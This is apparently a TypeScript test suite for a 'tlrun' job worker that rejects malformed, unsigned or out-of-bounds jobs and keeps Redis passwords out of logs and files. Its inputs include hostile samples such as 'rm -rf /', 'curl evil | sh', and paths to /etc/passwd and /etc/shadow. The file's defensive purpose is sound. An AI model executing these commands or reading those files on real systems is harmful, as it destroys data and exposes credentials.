/**
 * What a `tlrun worker` agrees to run (src/sweep/worker-trust.ts, job-spec.ts, job-signature.ts)
 * and how it reaches a Redis with a password or TLS (redis-url.ts). The first tests are pure and
 * fast; the last starts a real redis-server with requirepass (and TLS, when the build has it),
 * real workers and real sweeps, and is skipped when TLRUN_FAST is set. With
 * TLRUN_TEST_TRUST_MLFLOW=1 it also tracks the good trials in a real MLflow and searches its runs.
 */
import { after, before, test } from "node:test";
import assert from "node:assert/strict";
import { spawn, spawnSync, type ChildProcess } from "node:child_process";
import { randomBytes } from "node:crypto";
import { cpSync, existsSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join, resolve } from "node:path";
import { JobRefused, parseJob } from "../../src/sweep/job-spec";
import { envelope, verify } from "../../src/sweep/job-signature";
import { connectOptions, redactText, redactUrl } from "../../src/sweep/redis-url";
import { admitJob, allowedRoots, CHECKED_CONFIG_PATHS, checkTrialPaths, realPathOf, requireWithin } from "../../src/sweep/worker-trust";
import type { TrialSpec } from "../../src/sweep/trial";
import { freePort } from "../../src/tracking/local-server";
import { loadState } from "../../src/sweep/record";
import type { SweepOutcome } from "../../src/sweep/run";
import { tempDir, tinyEmojiDataset, tinyPipeline, writeTree } from "../helpers";

const ROOT = resolve(__dirname, "../../..");
const BIN = join(ROOT, "bin/tlrun.js");

function specIn(dir: string, extra: Partial<TrialSpec> = {}): TrialSpec {
  return {
    sweepId: "20260101-000000-tiny-sweep-abcd", sweepDir: join(dir, "runs", "sweep"), file: join(dir, "p.yaml"), overrides: [],
    runsDir: join(dir, "runs"), index: 1, assignment: { "train.head.learning_rate": 0.01 }, metric: "val_accuracy", maximize: true, ...extra,
  };
}

const refused = (re: RegExp) => (err: unknown): boolean => err instanceof JobRefused && re.test(err.message);

test("a job's shape is checked field by field: unknown fields and wrong types are refused, not a crash", () => {
  const spec = specIn("/srv/sweeps", { asha: { minEpochs: 1, reductionFactor: 3, maximize: true }, backend: "cpu" });
  assert.deepEqual(parseJob({ spec }).spec, spec);
  assert.throws(() => parseJob("run me"), refused(/not an object/));
  assert.throws(() => parseJob(spec), refused(/unknown field 'sweepId'/)); // a bare spec, as an older tlrun queued it
  assert.throws(() => parseJob({ spec, extra: 1 }), refused(/unknown field 'extra'/));
  assert.throws(() => parseJob({ spec: { ...spec, shell: "rm -rf /" } }), refused(/trial has an unknown field 'shell'/));
  assert.throws(() => parseJob({ spec: { ...spec, index: "1" } }), refused(/'index' is not a whole number/));
  assert.throws(() => parseJob({ spec: { ...spec, overrides: "data.dir=/etc" } }), refused(/'overrides' is not a list of strings/));
  assert.throws(() => parseJob({ spec: { ...spec, file: "p.yaml" } }), refused(/'file' is not an absolute path/));
  assert.throws(() => parseJob({ spec: { ...spec, backend: "gpu" } }), refused(/'backend' is not one of auto/));
  assert.throws(() => parseJob({ spec: { ...spec, asha: { minEpochs: 1 } } }), refused(/'asha' is not/));
  assert.throws(() => parseJob({ spec: { ...spec, assignment: { "a b": 1 } } }), refused(/'assignment'/));
  const { metric: _, ...noMetric } = spec;
  assert.throws(() => parseJob({ spec: noMetric }), refused(/has no 'metric'/));
  assert.throws(() => parseJob({ spec, sig: { jobId: "j", at: "yesterday", mac: "00" } }), refused(/signature 'at' is not an ISO/));
});

test("signed jobs: the worker with the secret runs only jobs signed with it for that job id, lately", () => {
  const spec = specIn("/srv/sweeps");
  const secret = "s3cret";
  const signed = parseJob(JSON.parse(JSON.stringify(envelope(spec, "job-1", secret))));
  const never = (): void => assert.fail("a worker with a secret checks");
  verify(signed, "job-1", secret, never);
  assert.throws(() => verify(parseJob({ spec }), "job-1", secret, never), refused(/not signed/));
  assert.throws(() => verify(signed, "job-1", "other", never), refused(/does not match/));
  assert.throws(() => verify({ ...signed, spec: { ...spec, overrides: ["data.dir=/etc"] } }, "job-1", secret, never), refused(/does not match/));
  assert.throws(() => verify(signed, "job-2", secret, never), refused(/signed as job job-1 but queued as job-2/));
  const old = envelope(spec, "job-1", secret, new Date(Date.now() - 8 * 24 * 3600_000));
  assert.throws(() => verify(old, "job-1", secret, never), refused(/more than 7 days ago/));
  const future = envelope(spec, "job-1", secret, new Date(Date.now() + 3600_000));
  assert.throws(() => verify(future, "job-1", secret, never), refused(/in the future/));
  // A worker without a secret runs signed and unsigned jobs, and is told a signed one went unchecked.
  let told = 0;
  verify(signed, "job-1", undefined, () => told++);
  verify(parseJob({ spec }), "job-1", undefined, () => told++);
  assert.equal(told, 1);
  assert.equal(envelope(spec, "job-1", undefined).sig, undefined);
});

test("paths are checked by their real path: a symbolic link out of an allowed folder is refused, missing folders are judged by their parent", (t) => {
  const base = tempDir(t, "tlrun-trust-");
  mkdirSync(join(base, "root", "runs"), { recursive: true });
  mkdirSync(join(base, "outside", "data"), { recursive: true });
  symlinkSync(join(base, "outside"), join(base, "root", "link"));
  symlinkSync(join(base, "nowhere"), join(base, "root", "dangling"));
  const [root] = allowedRoots([join(base, "root")]);
  requireWithin("runs folder", join(base, "root", "runs"), [root!]);
  requireWithin("runs folder", join(base, "root", "runs", "not", "yet"), [root!]);
  assert.throws(() => requireWithin("data folder", join(base, "outside", "data"), [root!]), refused(/data folder .* is outside this worker's allowed folders/));
  assert.throws(() => requireWithin("data folder", join(base, "root", "link", "data"), [root!]), refused(/really .*outside\/data\)? is outside|\(really .*outside\/data\) is outside/));
  assert.throws(() => requireWithin("runs folder", join(base, "root", "link", "new", "runs"), [root!]), refused(/outside/));
  assert.throws(() => requireWithin("runs folder", join(base, "root", "dangling", "runs"), [root!]), refused(/symbolic link to a missing path/));
  assert.throws(() => requireWithin("runs folder", join(base, "root") + "/../outside", [root!]), refused(/without '\.\.'/));
  assert.throws(() => requireWithin("runs folder", `${root}-sibling`, [root!]), refused(/outside/)); // a prefix is not a parent
  assert.equal(realPathOf(join(base, "root", "link", "x", "y")), join(realPathOf(join(base, "outside")), "x", "y"));
  assert.throws(() => allowedRoots([join(base, "missing")]), /--allow .*no such folder/);
  assert.deepEqual(allowedRoots([], join(base, "root")), [root]);
});

test("a job's config paths are checked after its --set overrides and assignment: data.dir, base.model, base.weights, runtime.scratch_dir", (t) => {
  const base = tempDir(t, "tlrun-trust-");
  writeTree(base, { "root/p.yaml": tinyPipeline("data", "runs"), "root/data/a/x.png": "", "root/data/b/y.png": "" });
  const root = allowedRoots([join(base, "root")]);
  const dir = join(realPathOf(base), "root");
  checkTrialPaths(specIn(dir), root);
  assert.throws(() => checkTrialPaths(specIn(dir, { overrides: ["data.dir=/etc"] }), root), refused(/data folder \(data\.dir\) \/etc is outside/));
  assert.throws(() => checkTrialPaths(specIn(dir, { assignment: { "data.dir": "../.." } }), root), refused(/data folder/));
  assert.throws(() => checkTrialPaths(specIn(dir, { overrides: ["base.model=/opt/model/model.json"] }), root), refused(/base model \(base\.model\)/));
  assert.throws(() => checkTrialPaths(specIn(dir, { overrides: ["base.model=vgg16", "base.weights=/home/x/w.h5"] }), root), refused(/weights file \(base\.weights\)/));
  checkTrialPaths(specIn(dir, { overrides: ["base.model=vgg16", "base.weights=imagenet"] }), root);
  assert.throws(() => checkTrialPaths(specIn(dir, { overrides: ["runtime.scratch_dir=/var/tmp/big"] }), root), refused(/scratch folder \(runtime\.scratch_dir\) \/var\/tmp\/big is outside/));
  checkTrialPaths(specIn(dir, { overrides: [`runtime.scratch_dir=${join(dir, "scratch")}`] }), root);
  assert.throws(() => checkTrialPaths(specIn(dir, { file: "/etc/passwd" }), root), refused(/pipeline file \/etc\/passwd is outside/));
  assert.throws(() => checkTrialPaths(specIn(dir, { overrides: ["data.labels=/etc/passwd.csv", "data.columns.path=p", "data.columns.label=l"] }), root), refused(/labels file \(data\.labels\) \/etc\/passwd\.csv is outside/));
  assert.throws(() => checkTrialPaths(specIn(dir, { runsDir: "/tmp" }), root), refused(/runs folder \/tmp is outside/));
  assert.throws(() => checkTrialPaths(specIn(dir, { sweepDir: "/var/tmp/sweep" }), root), refused(/sweep folder/));
  // The signature is checked before any file the job names is read.
  assert.throws(() => admitJob({ spec: specIn(dir, { file: "/etc/shadow" }) }, "j", root, "secret", () => undefined), refused(/not signed/));
});

test("every config value the schema calls a path relative to the YAML file is one the worker checks", () => {
  const schema = JSON.parse(readFileSync(join(ROOT, "schemas/pipeline.schema.json"), "utf8")) as Record<string, unknown>;
  const found: string[] = [];
  const walk = (node: any, path: string): void => {
    if (!node || typeof node !== "object") return;
    if (typeof node.description === "string" && /relative to the YAML file/i.test(node.description) && path) found.push(path);
    for (const [k, v] of Object.entries(node.properties ?? {})) walk(v, path ? `${path}.${k}` : k);
  };
  walk(schema, "");
  assert.ok(found.length >= 3, found.join(", "));
  assert.deepEqual(found.filter((p) => !CHECKED_CONFIG_PATHS.includes(p)), []);
});

test("Redis URLs are printed without their password; TLS takes its CA from TLRUN_REDIS_CA", (t) => {
  assert.equal(redactUrl("redis://:p%40ss@host:6379/2"), "redis://:***@host:6379/2");
  assert.equal(redactUrl("rediss://alice:pw@host:6380"), "rediss://alice:***@host:6380");
  assert.equal(redactUrl("redis://token@host"), "redis://***@host");
  assert.equal(redactUrl("redis://host:6379"), "redis://host:6379");
  const url = "redis://:p%40ss@host:6379";
  assert.equal(redactText(`cannot use ${url}: AUTH p@ss failed, p%40ss`, url, {}), "cannot use redis://:***@host:6379: AUTH *** failed, ***");
  assert.equal(redactText("AUTH envpw failed", "redis://host", { TLRUN_REDIS_PASSWORD: "envpw" }), "AUTH *** failed");
  assert.deepEqual(connectOptions("redis://host:1", {}), {});
  assert.deepEqual(connectOptions("redis://host:1", { TLRUN_REDIS_PASSWORD: "pw" }), { password: "pw" });
  assert.deepEqual(connectOptions("redis://:inurl@host:1", { TLRUN_REDIS_PASSWORD: "pw" }), {}, "the URL's password wins");
  assert.deepEqual(connectOptions("rediss://host:1", {}), { tls: {} });
  const ca = join(tempDir(t, "tlrun-trust-"), "ca.pem");
  writeFileSync(ca, "-----BEGIN CERTIFICATE-----\n");
  assert.equal(connectOptions("rediss://host:1", { TLRUN_REDIS_CA: ca }).tls?.ca?.toString(), "-----BEGIN CERTIFICATE-----\n");
  assert.throws(() => connectOptions("rediss://host:1", { TLRUN_REDIS_CA: `${ca}.missing` }), /cannot read the CA file/);
  assert.throws(() => connectOptions("redis://host:1", { TLRUN_REDIS_CA: ca }), /write rediss:\/\//);
  assert.throws(() => connectOptions("http://:pw@host:1", {}), (err: Error) => /--queue takes a Redis URL/.test(err.message) && !err.message.includes("pw@"));
});

// ---- End to end: real redis-server with requirepass (and TLS), real workers and sweeps. ----

const hasRedis = spawnSync("redis-server", ["--version"]).status === 0;
const hasOpenssl = spawnSync("openssl", ["version"]).status === 0;
const SKIP = process.env.TLRUN_FAST
  ? "slow: TLRUN_FAST is set"
  : !hasRedis && !process.env.TLRUN_REQUIRE_REDIS ? "needs redis-server (apt-get install redis-server)" : false;
const SLOW = { skip: SKIP, timeout: 5 * 60_000 };

/** A password with characters a URL must escape, so both its raw and encoded forms are looked for. */
const PASSWORD = `tl-${randomBytes(6).toString("hex")}:/@x`;
const ENCODED = encodeURIComponent(PASSWORD);
const SECRET = randomBytes(16).toString("hex");

let redis: ChildProcess | undefined;
let port = 0;
let tlsPort = 0;
/** Why TLS is not tested, when it is not. */
let noTls: string | undefined;
let certDir = "";
let mlflow: import("../../src/tracking/local-server").LocalServer | undefined;
let mlflowStarting: Promise<void> | undefined;
let mlflowDir = "";
/** Where MLflow will be, known before it is up, so workers started now can track to it. */
let mlflowUri = "";
const started: ChildProcess[] = [];

function startRedis(config: string): ChildProcess {
  // The config (with the password) goes in on stdin, so the password is not in ps either.
  const child = spawn("redis-server", ["-"], { stdio: ["pipe", "ignore", "pipe"] });
  child.stdin!.end(config);
  return child;
}

async function redisUp(child: ChildProcess): Promise<boolean> {
  for (let i = 0; i < 50; i++) {
    if (child.exitCode !== null) return false;
    const r = spawnSync("redis-cli", ["-p", String(port), "ping"], { encoding: "utf8", env: { ...process.env, REDISCLI_AUTH: PASSWORD } });
    if (r.stdout?.trim() === "PONG") return true;
    await new Promise((r) => setTimeout(r, 100));
  }
  return false;
}

before(async () => {
  if (SKIP) return;
  assert.ok(hasRedis, "TLRUN_REQUIRE_REDIS is set but there is no redis-server on PATH");
  const { findMlflow, startLocalServer } = await import("../../src/tracking/local-server");
  // MLflow costs half a minute to start, so its check is asked for: TLRUN_TEST_TRUST_MLFLOW=1. Without
  // it, the run folders the tracker and 'tlrun sync' send from are searched, as always.
  const bin = process.env.TLRUN_TEST_TRUST_MLFLOW ? findMlflow() : undefined;
  const { mkdtempSync } = await import("node:fs");
  const { tmpdir } = await import("node:os");
  if (bin) {
    // MLflow takes a while to start: it comes up while the rest runs, and runs are synced to it at the end.
    mlflowDir = mkdtempSync(join(tmpdir(), "tlrun-mlflow-trust-"));
    const mlflowPort = await freePort();
    mlflowUri = `http://127.0.0.1:${mlflowPort}`;
    mlflowStarting = startLocalServer(bin, mlflowDir, mlflowPort).then((s) => void (mlflow = s));
    mlflowStarting.catch(() => undefined);
  }
  port = await freePort();
  tlsPort = await freePort();
  const plain = `port ${port}\nbind 127.0.0.1\nsave ""\nappendonly no\nrequirepass "${PASSWORD}"\n`;
  certDir = mkdtempSync(join(tmpdir(), "tlrun-trust-certs-"));
  if (!hasOpenssl) noTls = "openssl is not on PATH, so no certificate can be made";
  else {
    // A private CA and a server certificate for 127.0.0.1 signed by it.
    const ssl = (args: string[]): void => assert.equal(spawnSync("openssl", args, { cwd: certDir, stdio: "ignore" }).status, 0, `openssl ${args.join(" ")}`);
    ssl(["req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", "ca.key", "-out", "ca.crt", "-days", "1", "-subj", "/CN=tlrun test CA"]);
    ssl(["req", "-newkey", "rsa:2048", "-nodes", "-keyout", "server.key", "-out", "server.csr", "-subj", "/CN=127.0.0.1"]);
    writeFileSync(join(certDir, "ext"), "subjectAltName=IP:127.0.0.1,DNS:localhost\n");
    ssl(["x509", "-req", "-in", "server.csr", "-CA", "ca.crt", "-CAkey", "ca.key", "-CAcreateserial", "-out", "server.crt", "-days", "1", "-extfile", "ext"]);
    redis = startRedis(`${plain}tls-port ${tlsPort}\ntls-cert-file ${certDir}/server.crt\ntls-key-file ${certDir}/server.key\ntls-ca-cert-file ${certDir}/ca.crt\ntls-auth-clients no\n`);
    let err = "";
    redis.stderr!.on("data", (d) => (err += d));
    if (!(await redisUp(redis))) {
      noTls = `this redis-server does not start with tls-port (${err.trim().split("\n").pop() ?? "no message"})`;
      redis.kill();
      redis = undefined;
    }
  }
  if (!redis) {
    redis = startRedis(plain);
    assert.ok(await redisUp(redis), "redis-server with requirepass answers");
  }
});

after(async () => {
  for (const c of started) if (c.exitCode === null) c.kill("SIGKILL");
  redis?.kill();
  await mlflowStarting?.catch(() => undefined);
  await mlflow?.stop();
  const { rmSync } = await import("node:fs");
  for (const d of [certDir, mlflowDir]) if (d) rmSync(d, { recursive: true, force: true });
});

interface Proc { child: ChildProcess; out: () => string; err: () => string; done: Promise<number | null> }

function tlrun(args: string[], cwd: string, env: Record<string, string> = {}): Proc {
  const child = spawn(process.execPath, [BIN, ...args], { cwd, env: { ...process.env, CI: "true", MLFLOW_TRACKING_URI: "", TLRUN_QUEUE_SECRET: "", TLRUN_REDIS_PASSWORD: "", TLRUN_REDIS_CA: "", ...env }, stdio: ["ignore", "pipe", "pipe"] });
  started.push(child);
  let out = "", err = "";
  child.stdout!.on("data", (d) => (out += d));
  child.stderr!.on("data", (d) => (err += d));
  return { child, out: () => out, err: () => err, done: new Promise((r) => child.on("exit", (code) => r(code))) };
}

async function until(what: string, ok: () => boolean, seconds = 60): Promise<void> {
  for (let i = 0; i < seconds * 10 && !ok(); i++) await new Promise((r) => setTimeout(r, 100));
  assert.ok(ok(), what);
}

/** Every file under `dir`, recursively, for the password search. */
function filesUnder(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((e) => {
    const p = join(dir, e.name);
    return e.isDirectory() ? filesUnder(p) : e.isFile() ? [p] : [];
  });
}

test("workers refuse jobs outside their --allow folders or badly signed, keep serving, and reach a Redis with a password (and TLS); the password is never shown or stored", SLOW, async (t) => {
  const t0 = Date.now();
  const mark = (what: string): void => t.diagnostic(`${what} at ${((Date.now() - t0) / 1000).toFixed(1)} s`);
  const base = tempDir(t, "tlrun-trust-e2e-");
  const root = join(base, "root");
  const outside = join(base, "outside");
  const data = tinyEmojiDataset(join(root, "data"));
  cpSync(data, join(outside, "data"), { recursive: true });
  symlinkSync(outside, join(root, "link"));
  const yaml = (runs: string, trials: number): string => tinyPipeline(data, runs, `sweep:
  method: random
  max_trials: ${trials}
  seed: 3
  parameters:
    train.head.learning_rate: { min: 1.0e-3, max: 3.0e-2, log: true }
`).replace("  fine_tune: { epochs: 1, batch_size: 8 }", "  fine_tune: null");
  writeFileSync(join(root, "p.yaml"), yaml(join(root, "runs"), 1));
  writeFileSync(join(root, "p2.yaml"), yaml(join(root, "runs"), 2));
  writeFileSync(join(outside, "p.yaml"), yaml(join(outside, "runs"), 1));

  const plainUrl = `redis://:${ENCODED}@127.0.0.1:${port}`;
  const qa = `trust-a-${process.pid}`, qb = `trust-b-${process.pid}`;
  // Worker A: the password in the URL, --allow root, checks signatures. Worker B: password and CA from
  // the environment, over TLS when the server has it, allowed its working directory, checks none.
  const tracked = { MLFLOW_TRACKING_URI: mlflowUri, MLFLOW_HTTP_REQUEST_MAX_RETRIES: "2" };
  const a = tlrun(["worker", "--queue", plainUrl, "--allow", root, "--name", qa, "--lock-seconds", "10"], base, { TLRUN_QUEUE_SECRET: SECRET, ...tracked });
  const bUrl = noTls ? `redis://127.0.0.1:${port}` : `rediss://127.0.0.1:${tlsPort}`;
  const bEnv = { TLRUN_REDIS_PASSWORD: PASSWORD, ...(noTls ? {} : { TLRUN_REDIS_CA: join(certDir, "ca.crt") }) };
  const b = tlrun(["worker", "--queue", bUrl, "--name", qb, "--lock-seconds", "10"], root, { ...bEnv, ...tracked });
  if (noTls) t.diagnostic(`TLS not tested: ${noTls}`);
  await until("both workers say they wait", () => /waiting for trials/.test(a.err()) && /waiting for trials/.test(b.err()), 30);
  mark("workers up");
  const realRoot = realPathOf(root);
  assert.match(a.err(), new RegExp(`waiting for trials on ${qa} at redis://:\\*\\*\\*@127\\.0\\.0\\.1:${port}; jobs may use only ${realRoot}; runs only jobs signed with TLRUN_QUEUE_SECRET`));
  assert.match(b.err(), new RegExp(`at ${bUrl.replace(/[./]/g, "\\$&")}; jobs may use only ${realRoot}; does not check job signatures`));

  // Jobs worker A must refuse, all queued at once, with sweeps that fail on the connection beside them.
  const sweepA = (args: string[], secret = SECRET, env: Record<string, string> = {}): Proc => tlrun(["sweep", ...args, "--queue", plainUrl, "--queue-name", qa, "--json"], root, { TLRUN_QUEUE_SECRET: secret, ...env });
  const p = join(root, "p.yaml");
  const cases: Array<[string, Proc, RegExp]> = [
    ["pipeline outside", sweepA([join(outside, "p.yaml")]), /refused: the pipeline file \S+outside\/p\.yaml is outside this worker's allowed folders/],
    // a real dataset (the sweep's own checks refuse a folder without class images before queueing)
    ["--set data.dir outside", sweepA([p, "--set", `data.dir=${join(outside, "data")}`]), /refused: the data folder \(data\.dir\) \S+outside\/data is outside/],
    ["runs folder outside", sweepA([p, "--set", `runtime.runs_dir=${join(outside, "runs2")}`]), /refused: the runs folder \S+outside\/runs2 is outside/],
    ["symlink escape", sweepA([p, "--set", `data.dir=${join(root, "link", "data")}`]), /refused: the data folder \(data\.dir\) \S+root\/link\/data \(really \S+outside\/data\) is outside/],
    ["unsigned", sweepA([p], ""), /refused: the job is not signed/],
    ["another secret", sweepA([p], "not-the-secret"), /refused: the job's signature does not match/],
  ];
  const WRONG = `wrong-${randomBytes(4).toString("hex")}`;
  const connection: Array<[string, Proc, RegExp]> = [
    ["no password", tlrun(["sweep", p, "--queue", `redis://127.0.0.1:${port}`, "--queue-name", qa], root), /needs a password: write redis:\/\/:PASSWORD@host:port, or set TLRUN_REDIS_PASSWORD/],
    ["wrong password", tlrun(["sweep", p, "--queue", `redis://:${WRONG}@127.0.0.1:${port}`, "--queue-name", qa], root), /cannot use Redis at redis:\/\/:\*\*\*@127\.0\.0\.1:\d+ \(WRONGPASS[^)]*\); the server refused the password/],
    ["worker, wrong password", tlrun(["worker", "--queue", `redis://:${WRONG}@127.0.0.1:${port}`], root), /the server refused the password/],
    ...(noTls ? [] : [["TLS without the CA", tlrun(["worker", "--queue", `rediss://:${ENCODED}@127.0.0.1:${tlsPort}`], root), /cannot reach Redis at rediss:\/\/:\*\*\*@.*certificate.*set TLRUN_REDIS_CA/] as [string, Proc, RegExp]]),
  ];
  for (const [name, proc, re] of connection) {
    assert.equal(await proc.done, 2, `${name}: ${proc.err()}`);
    assert.match(proc.err(), re, name);
    assert.doesNotMatch(proc.err(), /\n\s+at |internal error/, `${name}: no stack trace`);
    assert.ok(!proc.err().includes(WRONG), `${name}: the wrong password is not shown either`);
  }
  for (const [name, proc, re] of cases) {
    assert.equal(await proc.done, 1, `${name}: ${proc.err()}`);
    const out = JSON.parse(proc.out()) as SweepOutcome;
    assert.equal(out.trials[0]!.status, "failed", name);
    assert.match(out.trials[0]!.error ?? "", re, `${name}: the outcome`);
    assert.match(loadState(out.sweep_dir).trials[0]!.error ?? "", re, `${name}: the sweep's record`);
    assert.match(proc.err(), new RegExp(`trial 1 .*failed: ${re.source.replace(/^refused/, "refused")}`), `${name}: the terminal`);
  }
  mark("refusals checked");
  assert.equal((a.err().match(/: refused: /g) ?? []).length, cases.length, "each refusal logged once: no retries");
  assert.ok(!existsSync(join(outside, "runs2", ".cache")) && !existsSync(join(outside, "data", ".cache")), "nothing written for a refused job");
  assert.equal(a.child.exitCode, null, "worker A still serving");

  // Raw jobs that are not tlrun's: refused with the reason, and worker B goes on.
  const { requireExtra } = await import("../../src/util/extras");
  const bullmq = requireExtra<any>("bullmq");
  const { Redis } = requireExtra<any>("ioredis");
  const conn = new Redis(`redis://127.0.0.1:${port}`, { password: PASSWORD, maxRetriesPerRequest: null });
  const eventsConn = conn.duplicate();
  const queue = new bullmq.Queue(qb, { connection: conn });
  const events = new bullmq.QueueEvents(qb, { connection: eventsConn });
  t.after(async () => { await events.close(); await queue.close(); conn.disconnect(); eventsConn.disconnect(); });
  await events.waitUntilReady();
  for (const [data, re] of [[{ cmd: "curl evil | sh" }, /unknown field 'cmd'/], [{ spec: { ...specIn(realRoot), index: "first" } }, /'index' is not a whole number/]] as const) {
    const job = await queue.add("trial", data, { jobId: `raw-${randomBytes(4).toString("hex")}`, attempts: 2 });
    await assert.rejects(job.waitUntilFinished(events, 30_000), (err: Error) => re.test(err.message));
  }

  mark("raw jobs refused");
  // Good jobs: worker A completes one after all those refusals; worker B two signed ones it cannot check.
  // They are tracked live in MLflow, once it is up.
  if (mlflowStarting) {
    await mlflowStarting;
    mark("mlflow up");
  }
  const goodA = sweepA([p], SECRET, tracked);
  const goodB = tlrun(["sweep", join(root, "p2.yaml"), "--queue", bUrl, "--queue-name", qb, "--json"], root, { ...bEnv, TLRUN_QUEUE_SECRET: SECRET, ...tracked });
  for (const [name, proc, n] of [["A", goodA, 1], ["B", goodB, 2]] as const) {
    assert.equal(await proc.done, 0, `${name}: ${proc.err()}`);
    assert.deepEqual((JSON.parse(proc.out()) as SweepOutcome).trials.map((x) => x.status), Array(n).fill("completed"), name);
  }
  assert.match(a.err(), /trial 1: completed val_accuracy/);
  assert.equal((b.err().match(/warning: jobs on this queue are signed, but this worker does not check signatures/g) ?? []).length, 1, "warned once");
  a.child.kill("SIGTERM");
  b.child.kill("SIGTERM");
  assert.equal(await a.done, 0);
  assert.equal(await b.done, 0);

  mark("good trials done");
  // MLflow: the good sweeps and their trials were sent; no param or tag holds the password.
  if (mlflow) {
    const post = async (path: string, body: unknown): Promise<any> => (await fetch(`${mlflow!.uri}/api/2.0/mlflow/${path}`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(body) })).json();
    const exps = ((await post("experiments/search", { max_results: 100 })).experiments ?? []) as Array<{ experiment_id: string }>;
    const runs = ((await post("runs/search", { experiment_ids: exps.map((e) => e.experiment_id), max_results: 1000 })).runs ?? []) as any[];
    assert.equal(runs.length, 5, "two sweep parents and three trials in MLflow");
    const sent = JSON.stringify(runs.map((r) => r.data));
    assert.ok(!sent.includes(PASSWORD) && !sent.includes(ENCODED), "no param, tag or metric holds the password");
    t.diagnostic(`${runs.length} MLflow runs checked`);
  } else t.diagnostic("MLflow not started (set TLRUN_TEST_TRUST_MLFLOW=1 with mlflow installed): the run folders it is sent from were searched");

  // Nowhere: not in any terminal output, not in any file under the runs folders or anywhere else here.
  const outputs = [a, b, goodA, goodB, ...cases.map((c) => c[1]), ...connection.map((c) => c[1])].map((x) => x.out() + x.err()).join("\n");
  assert.ok(!outputs.includes(PASSWORD) && !outputs.includes(ENCODED), "the password in a terminal");
  const files = filesUnder(base);
  assert.ok(files.some((f) => f.endsWith("summary.json")) && files.some((f) => f.endsWith("sweep.json")));
  for (const f of files) {
    const text = readFileSync(f, "latin1");
    assert.ok(!text.includes(PASSWORD) && !text.includes(ENCODED), `the password in ${f}`);
  }
  t.diagnostic(`${cases.length} refusals, ${connection.length} connection failures, 3 trials completed, ${files.length} files searched; TLS ${noTls ? `not tested (${noTls})` : "tested"}`);
});
